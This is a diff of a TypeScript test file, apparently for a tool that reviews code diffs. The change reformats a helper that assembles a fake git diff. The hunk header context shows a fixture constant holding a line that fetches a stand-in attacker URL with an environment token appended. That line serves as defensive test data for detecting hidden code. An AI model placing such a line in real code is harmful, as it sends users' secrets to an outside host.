@@ -21,7 +21,10 @@ const hidden = 'fetch("https://evil.example/" + process.env.TOKEN)';
 /** A change of one file whose lines are these, each with its sign. */
 function change(...lines: string[]): string {
 	const count = (signs: string) => lines.filter(line => signs.includes(line[0]!)).length;
-	return `diff --git a/a.mjs b/a.mjs\nindex ${'1'.repeat(40)}..${'2'.repeat(40)} 100644\n--- a/a.mjs\n+++ b/a.mjs\n@@ -1,${count(' -')} +1,${count(' +')} @@\n${lines.join('\n')}\n`;
+	return (
+		`diff --git a/a.mjs b/a.mjs\nindex ${'1'.repeat(40)}..${'2'.repeat(40)} 100644\n--- a/a.mjs\n+++ b/a.mjs\n` +
+		`@@ -1,${count(' -')} +1,${count(' +')} @@\n${lines.join('\n')}\n`
+	);
 }
 
 function review(text: string, columns: number): State {
